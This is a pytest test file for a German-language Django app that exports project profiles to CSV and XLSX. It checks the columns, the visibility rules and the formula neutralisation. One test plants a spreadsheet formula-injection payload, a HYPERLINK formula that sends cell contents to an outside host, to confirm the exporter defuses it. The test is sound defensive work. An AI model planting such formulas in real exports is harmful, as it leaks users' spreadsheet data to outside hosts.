"""CSV and XLSX: one row per Steckbrief, all fields, related items joined with "; ",
German formats, no formula injection; scores only for the Geschäftsstelle."""

import csv
import io

import pytest
from openpyxl import load_workbook

from dossiers import services
from steckbriefe.models import Meilenstein, Partner, Status

from .hilfen import dossier_erstellen, eingereicht

pytestmark = pytest.mark.django_db


def _csv(inhalt: bytes) -> list[dict]:
    text = inhalt.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:]), delimiter=";"))


def test_csv_has_one_row_each_with_all_fields(gs, fuenf):
    sb = fuenf[2]
    Partner.objects.create(steckbrief=sb, name="IHK Chemnitz", rolle="Netzwerk")
    inhalt, name, typ = services.tabelle_direkt(gs, "csv", {"alle": True})
    assert name.endswith(".csv") and typ == "text/csv; charset=utf-8"
    zeilen = _csv(inhalt)
    assert len(zeilen) == 5
    zeile = next(z for z in zeilen if z["Nr."] == str(sb.pk))
    assert zeile["Projekttitel"] == sb.titel
    assert zeile["Organisation"] == sb.organisation.name
    assert zeile["Status"] == "In Bewertung"
    assert zeile["Gesamtvolumen (EUR)"] == "2.500.000 €"
    assert (
        zeile["Partner"]
        == "TU Chemnitz – Forschung (zugesagt); IHK Chemnitz – Netzwerk (angefragt)"
    )
    assert zeile["Meilensteine"] == "06/2027: Baubeginn; 11/2028: Inbetriebnahme"
    assert zeile["Zieldimensionen"].startswith("HF1.1 ")
    assert zeile["Finanzierungsplan"] == "Text für finanzierungsplan"
    assert zeile["Rang"] and zeile["Punkte (Mittel, 0–100)"].count(",") == 1
    erster = next(z for z in zeilen if z["Nr."] == str(fuenf[0].pk))
    assert erster["Standort(e)"] == "Erzgebirgskreis; Landkreis Zwickau"
    # every label of the Steckbrief form is a column
    for spalte in [
        "Kurzbeschreibung",
        "Ausgangssituation und Handlungsbedarf",
        "Reifegrad",
        "Nachhaltigkeit / Verstetigung nach Projektende",
        "Anlagen",
        "Final eingereicht am",
        "E-Mail der Ansprechperson",
    ]:
        assert spalte in zeile


def test_drafts_and_invisible_steckbriefe_are_never_exported(wf, gs, fuenf):
    entwurf = eingereicht("Geheimer Entwurf")
    entwurf.status = Status.ENTWURF
    entwurf.save()
    anderswo = eingereicht("Im Vogtland", gebiete=["14523"])
    titel = {z["Projekttitel"] for z in _csv(services.tabelle_direkt(gs, "csv", {"alle": True})[0])}
    assert "Geheimer Entwurf" not in titel and "Im Vogtland" in titel
    zeilen = _csv(services.tabelle_direkt(wf, "csv", {"alle": True})[0])
    titel = {z["Projekttitel"] for z in zeilen}
    assert "Im Vogtland" not in titel and len(titel) == 5
    assert "Rang" not in zeilen[0]  # scores are the Geschäftsstelle's
    zeilen = _csv(services.tabelle_direkt(wf, "csv", {"ids": [anderswo.pk, fuenf[1].pk]})[0])
    assert [z["Projekttitel"] for z in zeilen] == [fuenf[1].titel]


def test_formulas_are_neutralised(gs, fuenf):
    sb = fuenf[1]
    sb.titel = '=HYPERLINK("http://example.org/?x="&A1,"Klick")'
    sb.kurzbeschreibung = "@SUM(1+1)"
    sb.save()
    zeile = next(z for z in _csv(services.tabelle_direkt(gs, "csv", {"ids": [sb.pk]})[0]))
    assert zeile["Projekttitel"] == "'" + sb.titel
    assert zeile["Kurzbeschreibung"] == "'@SUM(1+1)"
    inhalt = services.tabelle_direkt(gs, "xlsx", {"ids": [sb.pk]})[0]
    blatt = load_workbook(io.BytesIO(inhalt)).active
    kopf = [c.value for c in blatt[1]]
    zelle = blatt.cell(row=2, column=kopf.index("Projekttitel") + 1)
    assert zelle.value == sb.titel and zelle.data_type == "s"


def test_xlsx_through_a_job_has_numbers_dates_and_all_rows(gs, fuenf, settings):
    Meilenstein.objects.filter(steckbrief=fuenf[0]).delete()
    job = dossier_erstellen(gs, {"alle": True}, art="xlsx")
    assert job.ist_fertig and job.anzahl == 5 and job.dateiname.endswith(".xlsx")
    mappe = load_workbook(job.datei.path)
    blatt = mappe["Steckbriefe"]
    kopf = [c.value for c in blatt[1]]
    assert kopf[0] == "Nr." and "Partner" in kopf and "Punkte (Mittel, 0–100)" in kopf
    assert blatt.max_row == 6
    volumen = blatt.cell(row=2, column=kopf.index("Gesamtvolumen (EUR)") + 1)
    assert volumen.value == 2500000 and volumen.number_format == '#,##0 "€"'
    titel = {blatt.cell(row=r, column=kopf.index("Projekttitel") + 1).value for r in range(2, 7)}
    assert titel == {sb.titel for sb in fuenf}
    assert mappe.properties.title == "Steckbriefe"


def test_csv_through_a_job(wf, fuenf):
    job = dossier_erstellen(wf, {"alle": True}, art="csv")
    assert job.ist_fertig
    with open(job.datei.path, "rb") as datei:
        assert len(_csv(datei.read())) == 5
